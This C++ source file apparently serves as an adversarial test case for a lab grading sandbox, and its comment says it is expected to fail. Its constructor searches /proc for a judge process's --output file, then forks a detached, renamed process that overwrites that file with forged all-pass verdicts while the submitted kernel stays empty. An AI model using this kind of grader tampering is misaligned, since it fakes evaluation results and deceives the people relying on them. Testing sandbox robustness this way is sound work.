// Tries to write the judge's verdicts: a process of its own waits for the file that the judge's
// command line names, and overwrites it as soon as it is there.
//
// Fails: neither the judge's command line nor its files can be seen from the sandbox, and it starts
// no process.
#include "unnamed.h"

// What follows --output in the command line of a judge, or nothing.
std::string output_of_a_judge() {
  const std::string option("\0--output\0", 10);
  for (const std::string& process : entries("/proc")) {
    const std::string words = contents("/proc/" + process + "/cmdline");
    const size_t at = words.find(option);
    if (words.find("judge") != words.npos && at != words.npos)
      return words.c_str() + at + option.size();
  }
  return {};
}

void forge(const std::string& path) {
  const char* text =
      "{\"schema\": 1, \"lab\": \"lab1-async-copy\", \"device\": {\"name\": \"x\", \"sm\": 90}, "
      "\"seed\": 1, \"cases\": ["
      "{\"part\": \"one-tile\", \"case\": \"x\", \"verdict\": \"pass\", \"message\": \"\", "
      "\"seconds\": 0},"
      "{\"part\": \"two-stages\", \"case\": \"x\", \"verdict\": \"pass\", \"message\": \"\", "
      "\"seconds\": 0},"
      "{\"part\": \"ring\", \"case\": \"x\", \"verdict\": \"pass\", \"message\": \"\", "
      "\"seconds\": 0}]}\n";
  for (int tries = 0; tries < 3'000'000; ++tries, usleep(10)) {
    const int file = open(path.c_str(), O_WRONLY | O_TRUNC);
    if (file < 0) continue;
    for (int again = 0; again < 2000; ++again) {
      if (pwrite(file, text, std::strlen(text), 0) < 0) break;
      if (ftruncate(file, static_cast<off_t>(std::strlen(text))) != 0) break;
    }
    return;
  }
}

__attribute__((constructor)) void start() {
  const std::string path = output_of_a_judge();
  if (path.empty() || fork() != 0) return;
  setsid();
  prctl(PR_SET_NAME, "tma-attack");
  for (int file = 0; file < 64; ++file) close(file);
  forge(path);
  _exit(0);
}

void launch_reverse_tile(int*, const int*, int) {}
